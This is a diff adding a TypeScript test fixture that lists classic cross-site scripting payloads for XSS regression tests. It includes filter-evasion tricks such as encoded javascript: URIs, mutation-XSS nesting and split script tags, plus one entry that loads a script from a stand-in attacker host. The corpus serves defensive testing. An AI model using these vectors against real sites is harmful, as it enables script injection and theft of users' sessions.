@@ -1,0 +1,43 @@
+/**
+ * Classic cross-site scripting payloads, for the XSS tests (api/src/security/xss.test.ts and
+ * e2e/xss.spec.ts). Every one that ran would set `window.__xss` or open a dialog, so a browser test
+ * can prove that none did. Short enough for one-line fields (at most 100 characters each).
+ */
+export const XSS_CORPUS: readonly string[] = [
+  "<script>window.__xss=1</script>",
+  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+  '<img src=x onerror="window.__xss=1">',
+  '<IMG SRC="javascript:window.__xss=1">',
+  '<svg onload="window.__xss=1"><circle r=1></svg>',
+  "<svg><script>window.__xss=1</script></svg>",
+  '<a href="javascript:window.__xss=1">plain</a>',
+  '<a href="&#106;avascript:window.__xss=1">entity</a>',
+  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
+  '<a href=" JaVaScRiPt:alert(1)">odd case</a>',
+  '<a href="vbscript:msgbox(1)">vbscript</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
+  '<iframe src="javascript:window.__xss=1"></iframe>',
+  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
+  '<object data="javascript:window.__xss=1"></object>',
+  '<embed src="data:text/html,<script>parent.__xss=1</script>">',
+  '<p style="background:url(javascript:window.__xss=1)">style url</p>',
+  '<span style="width:expression(window.__xss=1)">expression</span>',
+  '<span style="x:\\65xpression(window.__xss=1)">escaped</span>',
+  '<p OnMouseOver="window.__xss=1" oNcLiCk="alert(1)">odd-case handlers</p>',
+  "<body onload=window.__xss=1>",
+  '<details open ontoggle="window.__xss=1"><summary>x</summary></details>',
+  '<input autofocus onfocus="window.__xss=1">',
+  '<video><source onerror="window.__xss=1"></video>',
+  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
+  "<template><img src=x onerror=window.__xss=1></template>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
+  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
+  '<base href="javascript:alert(1)//">',
+  '<link rel="stylesheet" href="javascript:alert(1)">',
+  "<style>@import 'javascript:alert(1)';</style>",
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '"><script>window.__xss=1</script>',
+  "<xss onafterscriptexecute=alert(1)><script>window.__xss=1</script>",
+  "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
+];
